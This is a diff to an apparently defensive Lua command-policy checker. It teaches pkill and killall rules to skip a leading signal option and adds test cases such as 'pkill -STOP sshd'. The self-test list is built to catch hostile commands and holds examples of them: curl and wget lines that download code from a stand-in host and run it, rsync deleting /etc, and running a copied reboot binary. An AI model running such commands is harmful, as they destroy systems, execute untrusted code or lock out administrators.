@@ -435,7 +435,40 @@ local function regex_pattern(re)
   return (re:gsub("%-", "%%-"))
 end
 
+-- Signal names pkill and killall take as an option of their own (-STOP,
+-- -sigkill, -9), before the options they parse.
+local SIGNALS = {}
+for name in ("HUP INT QUIT ILL TRAP ABRT IOT BUS FPE KILL USR1 SEGV USR2 PIPE ALRM TERM "
+             .. "STKFLT CHLD CLD CONT STOP TSTP TTIN TTOU URG XCPU XFSZ VTALRM PROF WINCH IO "
+             .. "POLL PWR SYS RTMIN RTMAX"):gmatch("%S+") do
+  SIGNALS[name] = true
+end
+
+-- c without its first -SIGNAL word, which would otherwise read as a run of
+-- short options: in -STOP, P would take the process name as its value.
+local function without_signal(c)
+  for i = 2, #c.argv do
+    local a = c.argv[i]
+    if a == "--" then
+      break
+    end
+    local name = a:match("^%-(%w[%w+-]*)$")
+    name = name and name:upper():gsub("^SIG", ""):gsub("[+-]%d+$", "")
+    if name and (SIGNALS[name] or name:find("^%d+$")) then
+      local argv, words = {}, {}
+      for k = 1, #c.argv do
+        if k ~= i then
+          argv[#argv + 1], words[#words + 1] = c.argv[k], c.words[k]
+        end
+      end
+      return {name = c.name, argv = argv, words = words, cwd = c.cwd, via = c.via}
+    end
+  end
+  return c
+end
+
 local function pkill_rule(c)
+  c = without_signal(c)
   local ops, opts = operands(c, c.name == "killall" and "suoynZ" or "sugUGPtF",
                              {signal = true, euid = true, uid = true, pgroup = true,
                               group = true, parent = true, terminal = true, pidfile = true,
@@ -914,6 +947,7 @@ function policy.self_test(t)
     "rsync -a --del /tmp/empty/ /etc/", "rsync -a --remove-source-files /etc/ /tmp/etc/",
     "dd if=/sbin/reboot of=/tmp/r; /tmp/r", "curl -so /tmp/r http://x; chmod +x /tmp/r; /tmp/r",
     "wget -O /tmp/x.py http://x && python3 /tmp/x.py",
+    "pkill -STOP sshd", "pkill -TRAP sshd", "killall -TSTP sshd", "pkill -sigstop -x sshd",
     -- Lines the check cannot see through.
     "eval reboot", "x=reboot; $x", "`echo reboot`", "echo reboot | sh", "bash <<EOF\nreboot\nEOF",
     "source /tmp/x.sh", "f() { :; }; f", "python3 -c 'import os'", "sudo $CMD",
